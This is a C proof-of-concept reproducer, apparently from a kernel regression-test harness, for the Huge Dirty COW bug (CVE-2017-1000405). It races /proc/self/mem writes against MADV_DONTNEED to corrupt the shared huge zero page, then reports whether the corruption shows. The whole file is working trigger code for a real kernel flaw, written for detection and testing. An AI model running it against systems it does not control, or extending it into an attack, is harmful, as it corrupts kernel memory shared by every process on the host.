/* Trigger for Huge Dirty COW (CVE-2017-1000405): writes corrupting the huge zero page. */
/*
 * A PMD-aligned read-only anonymous range is read, so the huge zero page maps it; one thread
 * writes into it through /proc/self/mem (FOLL_FORCE) while another drops it with
 * MADV_DONTNEED. touch_pmd() making the PMD dirty unconditionally let the retried GUP write
 * into the huge zero page itself. Evidence: another, fresh read-only THP range reads non-zero.
 */
#include <pthread.h>
#include <stdint.h>
#include <sys/mman.h>
#include <time.h>

#include "repro_lib.h"

#define THP_SIZE	(2UL << 20)
#define RACE_NS		1500000000LL
#define MARK		"mmstorm-huge-dirty-cow"

struct race {
	char *w;
	volatile int stop;
};

static long long now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000000000LL + ts.tv_nsec;
}

static char *thp_area(void)
{
	char *p = mmap(NULL, 2 * THP_SIZE, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	if (p == MAP_FAILED)
		return NULL;
	p = (char *)(((uintptr_t)p + THP_SIZE - 1) & ~(THP_SIZE - 1));
	madvise(p, THP_SIZE, MADV_HUGEPAGE);
	return p;
}

static void *dontneed(void *arg)
{
	struct race *r = arg;

	while (!r->stop) {
		madvise(r->w, THP_SIZE, MADV_DONTNEED);
		(void)*(volatile char *)r->w;	/* map the huge zero page again */
	}
	return NULL;
}

static int thp_usable(void)
{
	char mode[128] = "", zero[8] = "";
	FILE *f = fopen("/sys/kernel/mm/transparent_hugepage/enabled", "re");

	if (f) {
		if (!fgets(mode, sizeof(mode), f))
			mode[0] = '\0';
		fclose(f);
	}
	f = fopen("/sys/kernel/mm/transparent_hugepage/use_zero_page", "re");
	if (f) {
		if (!fgets(zero, sizeof(zero), f))
			zero[0] = '\0';
		fclose(f);
	}
	return !strstr(mode, "[never]") && mode[0] && zero[0] == '1';
}

int main(void)
{
	struct race r = { 0 };
	char *fresh;
	long long end, writes = 0;
	pthread_t t;
	int memfd, ret;

	if (!thp_usable())
		return repro_skip("needs THP (not [never]) and the huge zero page "
				  "(use_zero_page=1)");
	r.w = thp_area();
	fresh = thp_area();
	memfd = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
	if (!r.w || !fresh || memfd < 0)
		return repro_error("mmap or /proc/self/mem: %s", strerror(errno));
	(void)*(volatile char *)r.w;
	if (pthread_create(&t, NULL, dontneed, &r)) {
		close(memfd);
		return repro_error("pthread_create failed");
	}
	for (end = now_ns() + RACE_NS; now_ns() < end; writes++)
		if (pwrite(memfd, MARK, strlen(MARK), (off_t)(uintptr_t)r.w) < 0)
			break;
	r.stop = 1;
	pthread_join(t, NULL);
	close(memfd);
	for (size_t i = 0; i < THP_SIZE; i += 64)
		if (fresh[i]) {
			ret = repro_found("a fresh read-only THP range reads 0x%02x at offset %zu: "
					  "the huge zero page was written (after %lld writes)",
					  (unsigned char)fresh[i], i, writes);
			return ret;
		}
	return repro_not("%lld /proc/self/mem writes raced MADV_DONTNEED on the huge zero page "
			 "for %.1f s; a fresh THP range still reads zero", writes, RACE_NS / 1e9);
}
